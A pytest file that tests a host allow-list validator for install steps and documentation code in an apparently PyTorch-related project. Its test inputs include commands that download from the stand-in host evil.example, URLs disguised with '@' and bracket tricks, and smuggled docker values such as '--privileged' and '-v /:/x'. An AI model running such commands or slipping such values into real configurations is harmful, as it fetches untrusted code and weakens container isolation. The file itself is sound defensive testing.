from __future__ import annotations

import pytest

from tests.folders import ACCELERATOR, EXAMPLE, FAQ, GUIDE, INSTALL, Edit, Tree, edited, problems_in

HOSTS = "data/hosts.yaml"
LISTED = """\
hosts:
  - {host: docker.io, owner: Made up}
  - {host: download.pytorch.org, owner: PyTorch}
"""
IMAGE = 'image: "example/torch'
STEP = "      - pip: {packages: [torch], index"


def found(tree: Tree, *edits: Edit) -> list[str]:
    return problems_in(tree({**edited(*edits), HOSTS: LISTED}))


def told(path: str, line: int, host: str) -> str:
    return (
        f'{path}:{line}: "{host}" is not an allowed host for commands; '
        f"add it to {HOSTS} with its owner, or use another host"
    )


def test_listed_hosts_are_fine(tree: Tree) -> None:
    assert found(tree) == []


@pytest.mark.parametrize(
    ("edit", "host"),
    [
        ((INSTALL, IMAGE, 'image: "quay.example/torch'), "quay.example"),
        ((INSTALL, IMAGE, 'image: "localhost:5000/torch'), "localhost"),
        (
            (INSTALL, STEP, STEP.replace("index", "extra_index: 'https://evil.example/', index")),
            "evil.example",
        ),
        (
            (
                INSTALL,
                "packages: [torch], index",
                "packages: ['a @ https://e.example/a.whl'], index",
            ),
            "e.example",
        ),
        (
            (INSTALL, STEP, f"      - run: [git, clone, 'https://user@git.example/x']\n{STEP}"),
            "git.example",
        ),
        (
            (
                INSTALL,
                STEP,
                f"      - env: {{{{A: 'https://env.example'}}}}\n{STEP}".replace("{{", "{").replace(
                    "}}", "}"
                ),
            ),
            "env.example",
        ),
    ],
)
def test_a_host_that_is_not_listed_is_named(edit: Edit, host: str, tree: Tree) -> None:
    problems = found(tree, edit)
    assert len(problems) == 1
    assert told(INSTALL, int(problems[0].split(":")[1]), host) == problems[0]


@pytest.mark.parametrize("path", [GUIDE, FAQ])
def test_code_in_texts_is_looked_at_words_are_not(path: str, tree: Tree) -> None:
    anchor = {GUIDE: "This is", FAQ: "No, it is"}[path]
    code = "```\necho\ncurl https://a.example/x\n```\n"
    line = 12 + 1
    assert found(tree, (path, anchor, f"{code}\n{anchor}")) == [told(path, line, "a.example")]
    assert found(tree, (path, anchor, f"Read <https://a.example/x>. {anchor}")) == []


def test_every_address_of_a_line_is_looked_at(tree: Tree) -> None:
    anchor = "This is"
    code = "    curl https://download.pytorch.org/whl https://a.example/x\n"
    assert found(tree, (GUIDE, anchor, f"{code}\n{anchor}")) == [told(GUIDE, 11, "a.example")]


def test_plain_http_is_refused_even_for_a_listed_host(tree: Tree) -> None:
    anchor = "This is"
    code = "    pip install x --index-url http://download.pytorch.org/whl\n"
    assert found(tree, (GUIDE, anchor, f"{code}\n{anchor}")) == [
        f'{GUIDE}:11: "http://download.pytorch.org/whl" is not fetched over https; write https://'
    ]


def test_without_a_list_only_the_protocol_is_looked_at(tree: Tree) -> None:
    edit = (GUIDE, "This is", "    curl http://a.example https://b.example\n\nThis is")
    (problem,) = problems_in(tree(edited(edit, files=EXAMPLE)))
    assert "http://a.example" in problem


@pytest.mark.parametrize(
    ("command", "host"),
    [
        ('curl https:"//evil.example/x"', "evil.example"),
        ('curl "https://docker.io)@evil.example/x"', "evil.example"),
        ("curl 'https://docker.io|@evil.example/x'", "evil.example"),
        ("curl -fsSLO evil.example/x", "evil.example"),
        ("curl -o x.tar.gz user@evil.example:8080/x", "evil.example"),
        ("wget -q -O x.zip evil.example", "evil.example"),
        ("git clone git@evil.example:a/b.git", "evil.example"),
        ("git clone evil.example:a/b.git", "evil.example"),
        ("scp evil.example:/x .", "evil.example"),
        ("docker pull evil.example/x", "evil.example"),
        ("docker pull Evil/x", "evil"),
        ("sudo docker run --rm -it --device /dev/x evil.example:5000/x:1", "evil.example"),
        ("a && curl evil.example", "evil.example"),
        ("pip install git+https://evil.example/x", "evil.example"),
    ],
)
@pytest.mark.parametrize("place", ["```\n{}\n```", "Run `{}` first."])
def test_addresses_that_hide_are_found(command: str, host: str, place: str, tree: Tree) -> None:
    problems = found(tree, (GUIDE, "This is", f"{place.format(command)}\n\nThis is"))
    line = 12 if place.startswith("```") else 11
    assert told(GUIDE, line, host) in problems


@pytest.mark.parametrize(
    "command",
    [
        "curl -o file.tar.gz -H Accept:text.html https://download.pytorch.org/x",
        "docker run -v /opt/a.b/c:/x -w a/b pytorch/pytorch:2.0 python x.py",
        "python -m pip install torch",
        "cat a.example/x",
        "user@example.org",
        "curl http://169.254.169.254/latest/meta-data/instance-type",
    ],
)
def test_what_names_no_other_host_is_fine(command: str, tree: Tree) -> None:
    assert found(tree, (GUIDE, "This is", f"```\n{command}\n```\n\nThis is")) == []


@pytest.mark.parametrize("sign", [")", "|", "<", "'", "`", "]"])
def test_a_step_gets_its_word_as_it_is(sign: str, tree: Tree) -> None:
    word = f'"https://download.pytorch.org{sign}@evil.example/x"'
    problems = found(tree, (INSTALL, STEP, f"      - run: [curl, {word}]\n{STEP}"))
    assert any("evil.example" in p and "is not an allowed host for commands" in p for p in problems)


def test_a_placeholder_is_no_host(tree: Tree) -> None:
    run = "      - run: [git, clone, 'https://{torch}.evil.example/x']\n"
    problems = found(tree, (INSTALL, STEP, run + STEP))
    assert "has a placeholder in its host; use a real host name" in problems[-1]


def test_a_command_of_identify_is_looked_at(tree: Tree) -> None:
    entry = "identify:\n  - {os: linux, shows: x, source: made-up, command: curl evil.example}\n"
    assert found(tree, (ACCELERATOR, "support:", f"{entry}support:")) == [
        told(ACCELERATOR, 16, "evil.example")
    ]


@pytest.mark.parametrize(
    ("args", "word"),
    [
        ("[evil.example/x]", "evil.example/x"),
        ("[--rm, evil]", "evil"),
        ("[-it, evil]", "evil"),
        ("[--shm-size, 8G, evil]", "evil"),
        ("[--shm-size=8G, evil]", "evil"),
        ("[--, evil]", "--"),
    ],
)
def test_an_argument_of_docker_does_not_become_the_image(args: str, word: str, tree: Tree) -> None:
    (problem,) = found(tree, (INSTALL, "- docker: {image", f"- docker: {{args: {args}, image"))
    assert f'"{word}" is not an option; docker would use it as the image' in problem


@pytest.mark.parametrize("image", ["--privileged", "a b", "a;b", "-v /:/x evil"])
def test_an_image_is_a_name(image: str, tree: Tree) -> None:
    (problem,) = found(tree, (INSTALL, '"example/torch:{torch}-{variant_version}"', f'"{image}"'))
    assert "is not a valid image name" in problem
